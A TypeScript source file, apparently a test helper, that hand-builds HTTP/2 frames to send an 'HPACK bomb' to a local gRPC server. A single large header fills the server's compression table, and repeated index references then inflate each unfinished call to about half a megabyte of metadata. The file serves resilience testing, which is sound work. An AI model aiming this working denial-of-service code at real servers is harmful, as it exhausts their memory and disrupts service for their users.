import { connect, type Socket } from 'node:net';
import { analysePath } from './grpc-attacker.js';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const frames = { headers: 1, settings: 4 };
const END_HEADERS = 4;

/** One header that fills the table of the other side, and the byte that repeats it. */
const name = 'x-bin';
const value = ','.repeat(4_096 - 32 - name.length);
const repeated = 0x80 | 62;
/** With the usual ones, as many as Node.js takes. */
const times = 118;

/**
 * Calls whose metadata is half a megabyte each, of a client that speaks HTTP/2 by the byte, for Node's own
 * would acknowledge the settings of the other side, after which they bind it.
 */
export class HpackBomb implements Disposable {
  readonly #socket: Socket;
  #nextStream = 1;

  /** Resolves when the other side has had enough. */
  readonly closed: Promise<unknown>;

  constructor(port: number) {
    this.#socket = connect({ port, host: '127.0.0.1' });
    this.closed = new Promise((resolve) => this.#socket.once('close', resolve));
    this.#socket.on('error', () => undefined).resume();
    this.#socket.write(opening);
  }

  /** They are never finished. */
  call(count: number): void {
    this.#socket.write(callFrames(count, this.#nextStream));
    this.#nextStream += 2 * count;
  }

  [Symbol.dispose](): void {
    this.#socket.destroy();
  }
}

function callFrames(count: number, firstStream: number): Buffer {
  const parts: Buffer[] = [];
  for (let stream = firstStream; stream < firstStream + 2 * count; stream += 2) {
    const large = stream === 1 ? literal(0x40, name, value) : Buffer.from([repeated]);
    const block = Buffer.concat([usual, large, Buffer.alloc(times - 1, repeated)]);
    parts.push(frame(frames.headers, END_HEADERS, stream, block));
  }
  return Buffer.concat(parts);
}

/** `:method` and `:scheme` stand in every table, the others are not put into it. */
const usual = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  literal(0, ':path', analysePath),
  literal(0, ':authority', 'localhost'),
  literal(0, 'content-type', 'application/grpc'),
  literal(0, 'te', 'trailers'),
]);

const opening = Buffer.concat([preface, frame(frames.settings, 0, 0, Buffer.alloc(0))]);

function literal(kind: number, name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([kind]), text(name), text(value)]);
}

function text(value: string): Buffer {
  return Buffer.concat([integer(value.length), Buffer.from(value)]);
}

/** In the seven bits that the length of a text begins with. */
function integer(value: number): Buffer {
  if (value < 127) return Buffer.from([value]);
  const bytes = [127];
  let rest = value - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  return Buffer.from([...bytes, rest]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
